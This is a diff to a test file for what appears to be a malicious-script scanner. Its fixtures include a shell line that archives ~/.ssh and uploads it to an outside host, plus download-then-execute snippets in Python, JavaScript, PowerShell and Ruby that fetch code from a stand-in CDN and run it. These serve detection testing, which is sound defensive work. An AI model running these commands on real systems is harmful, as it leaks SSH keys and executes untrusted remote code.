@@ -133,3 +133,16 @@ def test_credential_staged_in_a_file_then_uploaded():
                "tar czf /tmp/b.tgz ~/.ssh\ncurl -F b=@/tmp/b.tgz https://x.collector.dev/\n"):
         assert _worst("s.sh", "#!/bin/sh\n" + sh, "credential-exfil") == Severity.CRITICAL
     assert _facts("ok.sh", "#!/bin/sh\ntar czf /tmp/b.tgz dist\ncurl -F b=@/tmp/b.tgz https://x.collector.dev/\n") == []
+
+
+def test_download_written_then_run_in_any_language():
+    cases = {
+        "a.py": "import urllib.request, runpy\nurllib.request.urlretrieve('https://cdn.tools-hub.dev/x.py', '/tmp/x.py')\nrunpy.run_path('/tmp/x.py')\n",
+        "c.js": "const https = require('https'); const fs = require('fs');\nhttps.get('https://cdn.tools-hub.dev/x.js', r => r.pipe(fs.createWriteStream('/tmp/x.js')).on('finish', () => require('/tmp/x.js')));\n",
+        "e.ps1": "Start-BitsTransfer -Source https://cdn.tools-hub.dev/x.ps1 -Destination $env:TEMP\\x.ps1\n& $env:TEMP\\x.ps1\n",
+        "r.rb": "require 'open-uri'\nFile.write('/tmp/h.rb', URI.open('https://cdn.tools-hub.dev/h.rb').read)\nload '/tmp/h.rb'\n",
+    }
+    for path, text in cases.items():
+        assert _worst(path, text, "remote-exec") >= Severity.HIGH, path
+    ok = "import urllib.request, json\nurllib.request.urlretrieve('https://api.github.com/repos/a/b/releases/latest', 'latest.json')\nprint(json.load(open('latest.json')))\n"
+    assert _facts("ok.py", ok) == []
